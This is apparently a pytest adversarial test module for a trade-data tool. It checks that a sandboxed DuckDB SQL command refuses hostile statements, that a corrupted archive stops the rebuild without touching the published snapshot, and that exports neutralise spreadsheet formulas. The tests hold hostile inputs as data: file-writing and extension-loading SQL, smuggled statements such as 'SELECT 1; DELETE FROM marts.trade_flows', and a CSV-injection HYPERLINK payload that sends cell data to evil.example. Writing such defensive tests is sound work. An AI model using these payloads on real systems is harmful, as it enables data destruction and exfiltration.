"""Hostile input, as an operator or an analyst might give it: every case ends in a clear one-line
error or an unchanged, correct warehouse.

- `tradeflow sql` with statements and settings that would write files, install or load
  extensions, or smuggle a second statement (the sandbox is DuckDB's own: external access off,
  configuration locked), checked against the real files byte for byte;
- a damaged raw archive (bit flip, truncated gzip, swapped object, body replaced by a valid
  gzip with other values, corrupt middle manifest line, non-UTF-8 line, missing object):
  `--source archive` fails naming the object or file:line, and the published snapshot stays;
- exports of text cells that a spreadsheet would run as formulas (OWASP CSV injection).
"""

from __future__ import annotations

import csv
import gzip
import hashlib
import json
import shutil
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner

from tradeflow.archive import RawArchive
from tradeflow.cli import main

pytestmark = pytest.mark.adversarial


def digest(path: Path) -> str | None:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else None


@pytest.fixture(scope="module")
def hostile_home(sample_home, tmp_path_factory):
    """A private copy of the sample home (so a sandbox failure cannot damage the shared one)."""
    home, _, _ = sample_home
    work = tmp_path_factory.mktemp("hostile") / "home"
    shutil.copytree(home, work, ignore=shutil.ignore_patterns("*.lock"))
    return work


def _one_line_error(r) -> str:
    assert r.exit_code == 1, r.output
    assert "Traceback" not in r.output
    lines = [ln for ln in r.output.splitlines() if ln.strip()]
    assert len(lines) == 1 and lines[0].startswith("error:"), r.output
    return lines[0]


# -- tradeflow sql ------------------------------------------------------------------------------

HOSTILE_SQL = [
    "EXPLAIN ANALYZE COPY (SELECT 'x') TO '{home}/raw/manifest.jsonl'",
    "SET log_query_path = '{home}/tradeflow.duckdb'",
    "SET log_query_path = '{home}/tradeflow.duckdb'; SELECT 1",
    "PRAGMA profiling_output = '{home}/tradeflow.duckdb'",
    "SET profiling_output = '{home}/published/tradeflow.duckdb'",
    "PRAGMA enable_profiling = 'json'",
    # DuckDB accepts only profiling files named .json/.txt/…: a new file beside the archive is still a write
    "PRAGMA enable_profiling = 'json'; PRAGMA profiling_output = '{home}/raw/profile.json'; SELECT 1",
    "SET enable_profiling = 'query_tree'; SET profiling_output = '{home}/published/profile.txt'; SELECT 1",
    "SET enable_external_access = true",
    "RESET lock_configuration",
    "EXPLAIN ANALYZE INSTALL httpfs",
    "INSTALL httpfs",
    "LOAD httpfs",
    "LOAD '{home}/evil.duckdb_extension'",
    "ATTACH '{home}/tradeflow.duckdb' AS live",
    "ATTACH '{home}/new.duckdb' AS fresh",
    "COPY (SELECT 1) TO '{home}/raw/manifest.jsonl'",
    "COPY marts.dim_country TO '{home}/runs.jsonl'",
    "EXPORT DATABASE '{home}/dump'",
    "CALL enable_logging(storage = 'file', storage_path = '{home}/raw')",
    "SELECT * FROM read_text('{home}/raw/manifest.jsonl')",
    "SELECT 1; DELETE FROM marts.trade_flows",
    "CREATE TABLE marts.x AS SELECT 1",
]


@pytest.mark.parametrize("stmt", HOSTILE_SQL)
def test_hostile_sql_is_refused_and_touches_no_file(hostile_home, monkeypatch, stmt):
    monkeypatch.setenv("TRADEFLOW_HOME", str(hostile_home))
    watched = [hostile_home / "raw" / "manifest.jsonl", hostile_home / "tradeflow.duckdb",
               hostile_home / "published" / "tradeflow.duckdb", hostile_home / "runs.jsonl"]
    before = {p: digest(p) for p in watched}
    listing = sorted(p.relative_to(hostile_home) for p in hostile_home.rglob("*"))
    r = CliRunner().invoke(main, ["sql", stmt.format(home=hostile_home)])
    line = _one_line_error(r)
    assert "refused" in line or "read-only" in line or "SQL error" in line
    assert {p: digest(p) for p in watched} == before
    assert sorted(p.relative_to(hostile_home) for p in hostile_home.rglob("*")) == listing  # nothing new either
    # the snapshot still answers
    ok = CliRunner().invoke(main, ["sql", "SELECT count(*) AS n FROM marts.trade_flows", "--format", "csv"])
    assert ok.exit_code == 0 and int(ok.output.splitlines()[1]) > 0


def test_multi_statement_input_is_refused_clearly(hostile_home, monkeypatch):
    monkeypatch.setenv("TRADEFLOW_HOME", str(hostile_home))
    r = CliRunner().invoke(main, ["sql", "SELECT 1; SELECT 2"])
    assert "2 statements" in _one_line_error(r)
    r = CliRunner().invoke(main, ["sql", "SELECT 1 AS a; -- a comment after the one statement", "--format", "csv"])
    assert r.exit_code == 0 and r.output.splitlines() == ["a", "1"]


def test_sandbox_settings_are_locked_before_user_sql(hostile_home):
    from tradeflow.query import sandbox_connect

    conn = sandbox_connect(hostile_home / "published" / "tradeflow.duckdb")
    try:
        settings = dict(conn.execute(
            "SELECT name, value FROM duckdb_settings() WHERE name IN ('enable_external_access', 'lock_configuration', "
            "'autoinstall_known_extensions', 'autoload_known_extensions')").fetchall())
        assert settings == {"enable_external_access": "false", "lock_configuration": "true",
                            "autoinstall_known_extensions": "false", "autoload_known_extensions": "false"}
        with pytest.raises(duckdb.Error):
            conn.execute("SET enable_external_access = true")
    finally:
        conn.close()


# -- archive corruptions ------------------------------------------------------------------------


def _comtrade_entry(archive: RawArchive, n: int = 0):
    return [e for e in archive.loadable("comtrade.final")][n]


def _bit_flip(archive):
    e = _comtrade_entry(archive)
    p = archive.object_path(e.sha256)
    data = bytearray(p.read_bytes())
    data[len(data) // 2] ^= 0x01
    p.write_bytes(bytes(data))
    return e.sha256


def _truncated_gz(archive):
    e = _comtrade_entry(archive)
    p = archive.object_path(e.sha256)
    p.write_bytes(p.read_bytes()[: p.stat().st_size // 2])
    return e.sha256


def _swapped(archive):
    a, b = _comtrade_entry(archive, 0), _comtrade_entry(archive, 1)
    pa, pb = archive.object_path(a.sha256), archive.object_path(b.sha256)
    da, db = pa.read_bytes(), pb.read_bytes()
    pa.write_bytes(db)
    pb.write_bytes(da)
    return a.sha256


def _values_times_ten(archive):
    """A valid gzip of a valid body whose values are ten times larger: only the hash can tell."""
    e = _comtrade_entry(archive)
    body = json.loads(archive.read_body(e.sha256))
    for rec in body["data"]:
        rec["primaryValue"] = (rec.get("primaryValue") or 0) * 10
    archive.object_path(e.sha256).write_bytes(gzip.compress(json.dumps(body).encode(), mtime=0))
    return e.sha256


def _wits_body_replaced(archive):
    """A TRAINS body (read in Python, not by DuckDB) replaced by a valid gzip of other JSON."""
    e = archive.loadable("wits.trains")[0]
    archive.object_path(e.sha256).write_bytes(gzip.compress(b'{"dataSets": []}', mtime=0))
    return e.sha256


def _missing(archive):
    e = _comtrade_entry(archive)
    archive.object_path(e.sha256).unlink()
    return e.sha256


def _corrupt_middle_line(archive):
    lines = archive.manifest_path.read_bytes().split(b"\n")
    lines[10] = lines[10][: len(lines[10]) // 2]  # a damaged row in the middle, not a torn tail
    archive.manifest_path.write_bytes(b"\n".join(lines))
    return f"{archive.manifest_path}:11"


def _non_utf8_line(archive):
    lines = archive.manifest_path.read_bytes().split(b"\n")
    lines[5] = lines[5].replace(b'"status"', b'"st\xffatus"', 1)
    archive.manifest_path.write_bytes(b"\n".join(lines))
    return f"{archive.manifest_path}:6"


CORRUPTIONS = {
    "bit_flip": _bit_flip, "truncated_gz": _truncated_gz, "swapped_object": _swapped,
    "values_times_ten": _values_times_ten, "wits_body_replaced": _wits_body_replaced, "missing_object": _missing,
    "corrupt_middle_line": _corrupt_middle_line, "non_utf8_line": _non_utf8_line,
}


@pytest.fixture
def damaged_home(sample_home, tmp_path, monkeypatch):
    home, _, _ = sample_home
    work = tmp_path / "home"
    shutil.copytree(home, work, ignore=shutil.ignore_patterns("*.lock"))
    monkeypatch.setenv("TRADEFLOW_HOME", str(work))
    monkeypatch.setenv("TRADEFLOW_REPORTS_DIR", str(tmp_path / "reports"))
    return work


@pytest.mark.parametrize("kind", list(CORRUPTIONS))
def test_damaged_archive_stops_the_build_and_keeps_the_snapshot(damaged_home, kind):
    from pipelines.refresh import run_refresh

    archive = RawArchive(damaged_home / "raw")
    named = CORRUPTIONS[kind](archive)
    snapshot = damaged_home / "published" / "tradeflow.duckdb"
    before = digest(snapshot)
    outcome = run_refresh("archive")
    assert not outcome.success
    assert named in outcome.error and "\n" not in outcome.error
    assert "TransactionContext" not in outcome.error
    assert digest(snapshot) == before
    # and `tradeflow verify` says the same
    r = CliRunner().invoke(main, ["verify"])
    assert r.exit_code == 1 and named in r.output


def test_corrupt_object_names_object_and_request(tmp_path):
    from tradeflow.archive import ArchiveError

    archive = RawArchive(tmp_path)
    e = archive.store(dataset="comtrade.final", source="live", url="https://x/data/v1/get/C/A/HS",
                      params={"period": "2021", "reporterCode": "586"}, status=200, body=b'{"count":0,"data":[]}')
    archive.object_path(e.sha256).write_bytes(gzip.compress(b'{"count":1,"data":[{}]}', mtime=0))
    with pytest.raises(ArchiveError) as exc:
        archive.verify_objects([e])
    assert e.sha256 in str(exc.value) and "period=2021" in str(exc.value) and "reporterCode=586" in str(exc.value)


def test_truncated_gzip_error_is_not_masked_by_the_aborted_transaction(tmp_path):
    """load_raw's `finally: unregister` used to replace the real error with 'transaction is aborted'."""
    from tradeflow.errors import TradeflowError
    from tradeflow.warehouse.comtrade_load import load_raw
    from tradeflow.warehouse.db import transaction

    archive = RawArchive(tmp_path / "raw")
    body = json.dumps({"count": 0, "data": [], "error": ""}).encode() * 1
    e = archive.store(dataset="comtrade.final", source="live", url="u", params={"period": "2021"}, status=200,
                      body=body + b" " * 5000)
    p = archive.object_path(e.sha256)
    p.write_bytes(p.read_bytes()[:20])
    conn = duckdb.connect()
    conn.execute("CREATE SCHEMA raw")
    with pytest.raises(TradeflowError) as exc, transaction(conn):
        load_raw(conn, archive, [e])
    assert "TransactionContext" not in str(exc.value)
    assert "GZIP" in str(exc.value).upper() or str(p) in str(exc.value)


def test_frame_build_error_is_not_masked_by_the_aborted_transaction():
    from tradeflow.errors import WarehouseError
    from tradeflow.warehouse.db import transaction
    from tradeflow.warehouse.models import _build_from_frames

    conn = duckdb.connect()
    conn.execute("CREATE SCHEMA raw")
    from tradeflow.green_channel import config

    bad = config.khunjerab_months().astype({"month_start": str})  # the real frame, one date broken at run time
    bad.loc[bad.index[0], "month_start"] = "not a date"
    with pytest.raises(WarehouseError) as exc, transaction(conn):
        _build_from_frames(conn, {"raw.khunjerab_months": "khunjerab_frame"}, {"khunjerab_frame": bad})
    assert "raw.khunjerab_months" in str(exc.value) and "not a date" in str(exc.value)


def test_archive_rebuild_missing_a_source_fails_loudly(damaged_home):
    """A rebuild that would drop a source the last publish used (here: every WITS body) must not publish."""
    from pipelines.refresh import run_refresh

    archive = RawArchive(damaged_home / "raw")
    for e in archive.loadable("wits.trains"):
        archive.mark_failed(e, "lost in an interrupted fetch")
    snapshot = damaged_home / "published" / "tradeflow.duckdb"
    before = digest(snapshot)
    outcome = run_refresh("archive")
    assert not outcome.success and "wits.trains" in outcome.error and "incomplete" in outcome.error
    assert digest(snapshot) == before


# -- export injection ---------------------------------------------------------------------------

HOSTILE_TEXT = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1",
                "\r=1+1", "plain text"]


@pytest.fixture(scope="module")
def injected_home(sample_home, tmp_path_factory):
    """A sample home whose dim_country names are formula-looking text."""
    home, _, _ = sample_home
    work = tmp_path_factory.mktemp("inject") / "home"
    (work / "published").mkdir(parents=True)
    shutil.copyfile(home / "published" / "tradeflow.duckdb", work / "published" / "tradeflow.duckdb")
    conn = duckdb.connect(str(work / "published" / "tradeflow.duckdb"))
    conn.execute("DELETE FROM marts.dim_country")
    for i, text in enumerate(HOSTILE_TEXT):
        conn.execute("INSERT INTO marts.dim_country (m49, iso3, name) VALUES (?, ?, ?)", [900 + i, f"X{i:02d}", text])
    conn.close()
    return work


def test_csv_export_neutralises_formula_text(injected_home, tmp_path, monkeypatch):
    monkeypatch.setenv("TRADEFLOW_HOME", str(injected_home))
    r = CliRunner().invoke(main, ["export", "--format", "csv", "--table", "dim_country", "--output", str(tmp_path)])
    assert r.exit_code == 0, r.output
    assert "dim_country: 7 rows" in r.output
    with open(tmp_path / "dim_country.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    names = {int(row["m49"]): row["name"] for row in rows}
    assert names == {900 + i: ("'" + t if t[0] in "=+-@\t\r" else t) for i, t in enumerate(HOSTILE_TEXT)}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dim_country.csv"]  # no temporary file left


def test_xlsx_export_stores_formula_text_as_text(injected_home, tmp_path, monkeypatch):
    import openpyxl

    monkeypatch.setenv("TRADEFLOW_HOME", str(injected_home))
    r = CliRunner().invoke(main, ["export", "--format", "xlsx", "--table", "dim_country", "--table", "fta_indicators",
                                  "--output", str(tmp_path)])
    assert r.exit_code == 0, r.output
    assert "dim_country: 7 rows" in r.output and "fta_indicators: 32 rows" in r.output
    wb = openpyxl.load_workbook(tmp_path / "tradeflow_marts.xlsx")
    ws = wb["dim_country"]
    header = [c.value for c in ws[1]]
    col = header.index("name")
    cells = [row[col] for row in ws.iter_rows(min_row=2)]
    # OOXML stores a carriage return as the escape _x000D_ (Excel shows it as CR; openpyxl leaves it escaped)
    assert [c.value for c in cells] == [t.replace("\r", "_x000D_") for t in HOSTILE_TEXT]
    assert {c.data_type for c in cells} == {"s"}  # text, never a formula
    num = wb["fta_indicators"]
    assert num.max_row == 33 and isinstance(num.cell(2, [c.value for c in num[1]].index("year") + 1).value, int)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["tradeflow_marts.xlsx"]


def test_failed_export_leaves_no_temporary_file(injected_home, tmp_path, monkeypatch):
    monkeypatch.setenv("TRADEFLOW_HOME", str(injected_home))
    (tmp_path / "tradeflow_marts.xlsx").mkdir()  # the target cannot be replaced
    r = CliRunner().invoke(main, ["export", "--format", "xlsx", "--table", "dim_country", "--output", str(tmp_path)])
    assert "cannot write" in _one_line_error(r)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["tradeflow_marts.xlsx"]


def test_export_failing_mid_sheet_leaves_no_file_anywhere(injected_home, tmp_path, monkeypatch):
    """A failure while rows stream (here: the database errors on the third batch) leaves neither the
    workbook's temporary file nor xlsxwriter's scratch files behind."""
    import tempfile

    import tradeflow.export as export

    monkeypatch.setenv("TRADEFLOW_HOME", str(injected_home))
    scratch_root = tmp_path / "scratch"
    scratch_root.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch_root))
    monkeypatch.setattr(export, "_BATCH", 2)
    real = export._cell_writer
    calls = {"n": 0}

    def flaky(ws, typ, *fmts):
        write = real(ws, typ, *fmts)

        def w(i, j, v):
            calls["n"] += 1
            if i > 4:
                raise duckdb.IOException("IO Error: disk went away")
            write(i, j, v)
        return w

    monkeypatch.setattr(export, "_cell_writer", flaky)
    out = tmp_path / "out"
    r = CliRunner().invoke(main, ["export", "--format", "xlsx", "--table", "dim_country", "--output", str(out)])
    assert "disk went away" in _one_line_error(r) and calls["n"] > 0
    assert list(out.iterdir()) == [] and list(scratch_root.iterdir()) == []
